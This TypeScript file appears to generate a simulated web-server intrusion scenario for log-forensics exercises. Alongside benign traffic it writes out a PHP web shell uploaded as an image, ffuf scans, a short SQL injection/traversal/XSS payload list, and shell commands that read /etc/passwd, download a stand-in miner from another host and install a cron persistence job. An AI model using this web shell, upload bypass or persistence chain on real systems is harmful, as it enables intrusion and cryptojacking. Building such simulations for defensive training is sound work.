import { writeFileSync } from "node:fs";
import { rotate, startMachine, startSite, takeEvidence } from "./machine.ts";
import { agents, browse, get, sshKey } from "./people.ts";
import { act, type Actor, inside, makeNetwork, makeRoot, pause, root } from "./world.ts";

const host = { name: "web-01", address: "192.0.2.20" };
const site = `http://${host.address}`;
const people = {
  admin: { name: "admin", address: "10.20.0.5" },
  guest1: { name: "guest1", address: "198.51.100.17" },
  guest2: { name: "guest2", address: "198.51.100.93" },
  robot: { name: "robot", address: "192.0.2.77" },
  intruder: { name: "intruder", address: "203.0.113.151" },
  store: { name: "store", address: "203.0.113.80" },
} satisfies Record<string, Actor>;

const evidence = [
  "var/log/nginx/access.log",
  "var/log/nginx/access.log.1.gz",
  "var/log/nginx/error.log",
  "var/log/auth.log",
  "var/log/cron.log",
  "var/log/syslog",
];
const shell = `<?php echo "<pre>"; system($_REQUEST["c"]); ?>\n`;

/** Guests who look, send pictures and mistype; a robot; an administrator. */
async function ordinary(round: number): Promise<void> {
  const { admin, guest1, guest2, robot } = people;
  const pages = ["/", "/style.css", "/favicon.ico", "/products.php?id=1", "/products.php?id=2", "/contact.html"];
  await Promise.all([
    browse(guest1, site, agents.person, [...pages, "/products.php?id=9", "/upload.php"]),
    browse(guest2, site, agents.other, ["/", "/style.css", "/contacts.html", "/contact.html", "/products.php?id=3"]),
    browse(robot, site, agents.robot, [
      "/robots.txt",
      "/",
      "/sitemap.xml",
      "/contact.html",
      "/old/page.html",
      "/products.php?id=2",
      "/news/",
    ]),
  ]);
  await get(
    guest1,
    `${site}/upload.php`,
    agents.person,
    `-e ${site}/upload.php -F 'picture=@/srv/lamp-${round}.png;type=image/png'`,
  );
  await get(guest1, `${site}/uploads/lamp-${round}.png`, agents.person);
  await sshKey(admin, host.address, "ops", "sudo /usr/sbin/nginx -t 2>&1 | tail -1");
}

/** A scan, an upload, a shell behind it, and what was done through the shell. */
async function intrude(): Promise<void> {
  const { intruder, store } = people;
  const serving = act(store, "cd /srv/store && python3 -m http.server 80 >/dev/null 2>&1", "", 150);
  await act(intruder, `ffuf -s -t 8 -u ${site}/FUZZ -w /srv/words -e .php -mc 200,301,403`);
  await act(intruder, `ffuf -s -t 4 -u '${site}/products.php?id=FUZZ' -w /srv/attacks -mc all`);
  await get(intruder, `${site}/upload.php`, "curl/7.88.1");
  await get(intruder, `${site}/upload.php`, "curl/7.88.1", "-F 'picture=@/srv/img_0419.php;type=image/png'");
  const commands = [
    "id",
    "uname -a",
    "cat /etc/passwd",
    "ls -la /srv/site",
    "ps aux",
    `wget -q http://${store.address}/xmrig -O /tmp/.kworker`,
    "chmod +x /tmp/.kworker",
    "(echo '* * * * * /tmp/.kworker -o stratum+tcp://pool.xmr.example:4444 >/dev/null 2>&1') | crontab -",
  ];
  for (const command of commands) {
    await get(intruder, `${site}/uploads/img_0419.php`, "curl/7.88.1", `-G --data-urlencode ${quote(`c=${command}`)}`);
    await pause(1.5);
  }
  await get(intruder, `${site}/uploads/img_0419.php`, "curl/7.88.1", "-d 'c=sudo -n -l'");
  await get(intruder, `${site}/uploads/img_0419.php`, "curl/7.88.1", "-d 'c=crontab -l'");
  void serving;
}

const quote = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`;

function fillMachine(): void {
  inside("mkdir -p /srv/store && printf '#!/bin/sh\\nexec sleep 300\\n' >/srv/store/xmrig");
  inside("head -c 600 /dev/urandom >/srv/lamp-1.png; cp /srv/lamp-1.png /srv/lamp-2.png");
  inside(
    "grep -v '^#' /usr/share/dirb/wordlists/small.txt | head -160 >/srv/words; printf 'upload\\nuploads\\n.git/config\\n.env\\nwp-login.php\\n' >>/srv/words",
  );
  const attacks = [
    "1' OR '1'='1",
    "1 UNION SELECT username,password FROM users--",
    "../../../../etc/passwd",
    "1;sleep 5",
    "<script>alert(1)</script>",
    "1' AND SLEEP(5)-- -",
  ];
  writeFileSync(`${root}/srv/attacks`, `${attacks.map(encodeURIComponent).join("\n")}\n`);
  writeFileSync(`${root}/srv/img_0419.php`, shell);
}

/** Records a machine with a web site, with or without an intrusion. */
export async function webScenario(folder: string, intrusion: boolean): Promise<void> {
  makeRoot();
  makeNetwork(host, Object.values(people));
  await startMachine("rfc3339");
  fillMachine();
  await startSite();
  await ordinary(1);
  await pause(5);
  rotate();
  await ordinary(2);
  if (intrusion) await intrude();
  await Promise.all([ordinary(1), pause(intrusion ? 66 : 62)]);
  takeEvidence(evidence, folder);
}
